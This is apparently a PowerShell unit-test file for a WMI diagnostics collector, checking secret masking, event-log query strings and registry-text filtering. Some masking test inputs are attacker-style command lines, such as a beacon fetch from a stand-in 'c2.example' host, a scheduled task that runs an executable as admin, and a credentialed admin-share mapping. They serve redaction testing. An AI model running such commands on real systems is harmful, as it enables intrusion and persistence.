<#
.SYNOPSIS
    Unit tests of the collector's pure functions (masking, event queries, .reg text), run by any PowerShell:
    the block between BEGIN PURE FUNCTIONS and END PURE FUNCTIONS of Collect-WmiDoctor.ps1 is loaded as a
    module, without running the collection. Exit code 0 when every case passes, 1 otherwise.

.EXAMPLE
    powershell.exe -NoProfile -ExecutionPolicy Bypass -File .\collect\tests\Collector.Tests.ps1
#>
$ErrorActionPreference = 'Stop'
$script = Join-Path (Split-Path -Parent $PSScriptRoot) 'Collect-WmiDoctor.ps1'
$text = [System.IO.File]::ReadAllText($script)
$start = $text.IndexOf('# BEGIN PURE FUNCTIONS')
$end = $text.IndexOf('# END PURE FUNCTIONS')
if ($start -lt 0 -or $end -lt $start) { Write-Error 'no PURE FUNCTIONS block in the collector'; exit 1 }
$module = New-Module -Name CollectorPureFunctions -ScriptBlock ([scriptblock]::Create($text.Substring($start, $end - $start) + "`nExport-ModuleMember -Function * -Variable *"))
Import-Module $module -Force

$script:Failures = 0
function Assert-Equal {
    param([string]$Name, $Actual, $Expected)
    if ($Actual -cne $Expected) {
        $script:Failures++
        Write-Output "FAIL $Name`n  expected: $Expected`n  actual:   $Actual"
    }
    else { Write-Output "ok   $Name" }
}

# Masking: the same cases as tests/hardening/test_secret_masking.py (the Python side checks the two agree).
$cases = @(
    @('net use \\fs01\c$ P@ssw0rd! /user:CORP\admin', 'net use \\fs01\c$ [masked] /user:CORP\admin'),
    @('schtasks /create /tn up /ru admin /p:Hunter2 /tr c:\x.exe', 'schtasks /create /tn up /ru admin /p:[masked] /tr c:\x.exe'),
    @("`$s = ConvertTo-SecureString 'S3cret!' -AsPlainText -Force", "`$s = ConvertTo-SecureString '[masked]' -AsPlainText -Force"),
    @('Connect-Thing -Password Pa55word -Server x', 'Connect-Thing -Password [masked] -Server x'),
    @('curl -u bob:pa55w0rd https://update.example', 'curl -u bob:[masked] https://update.example'),
    @('powershell iwr https://alice:pw123@c2.example/beacon', 'powershell iwr https://alice:[masked]@c2.example/beacon'),
    @('connect.exe PASSWORD=abc123;server=x', 'connect.exe PASSWORD=[masked]'),
    @('SELECT * FROM Win32_Process', 'SELECT * FROM Win32_Process'),
    @('http://example.com:8080/path', 'http://example.com:8080/path')
)
foreach ($case in $cases) { Assert-Equal "mask: $($case[0])" (ConvertTo-MaskedText $case[0]) $case[1] }
Assert-Equal 'mask: empty text' (ConvertTo-MaskedText '') ''
Assert-Equal 'safe text: arrays joined, cut' ((ConvertTo-SafeText @('a', ('b' * 9000))).EndsWith(' <cut>')) $true

# Event queries
Assert-Equal 'query: selector and window' (Get-EventQuery -Selector 'EventID=1' -Days 30) '*[System[(EventID=1) and TimeCreated[timediff(@SystemTime) <= 2592000000]]]'
Assert-Equal 'query: whole log' (Get-EventQuery -Selector '' -Days 0) '*'
Assert-Equal 'query: window only' (Get-EventQuery -Selector '' -Days 1) '*[System[TimeCreated[timediff(@SystemTime) <= 86400000]]]'

# .reg text: Environment (with its continuation lines) left out, the rest kept
$reg = @('[HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\Agent]', '"Start"=dword:00000002',
    '"Environment"=hex(7):50,00,57,00,3d,00,\', '  78,00,00,00,00,00', '"ImagePath"="C:\\agent.exe"') -join "`r`n"
$expected = @('[HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\Agent]', '"Start"=dword:00000002',
    '"ImagePath"="C:\\agent.exe"') -join "`r`n"
Assert-Equal 'reg: Environment dropped' (Remove-RegistryValueLines -Text $reg -Names @('Environment')) $expected
Assert-Equal 'reg line: dword' (ConvertTo-RegLine 'UBR' 4170) '"UBR"=dword:0000104a'
Assert-Equal 'reg line: string escaped' (ConvertTo-RegLine 'Path' 'C:\a "b"') '"Path"="C:\\a \"b\""'

if ($script:Failures -gt 0) { Write-Output "$script:Failures failed"; exit 1 }
Write-Output 'all passed'
exit 0
